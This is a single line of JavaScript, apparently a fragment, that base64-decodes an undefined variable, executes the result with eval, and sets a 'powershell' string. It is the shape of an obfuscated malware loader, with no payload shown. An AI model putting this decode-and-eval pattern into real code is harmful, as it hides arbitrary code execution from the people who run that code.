var b = atob(x); eval(b); var p = "powershell";
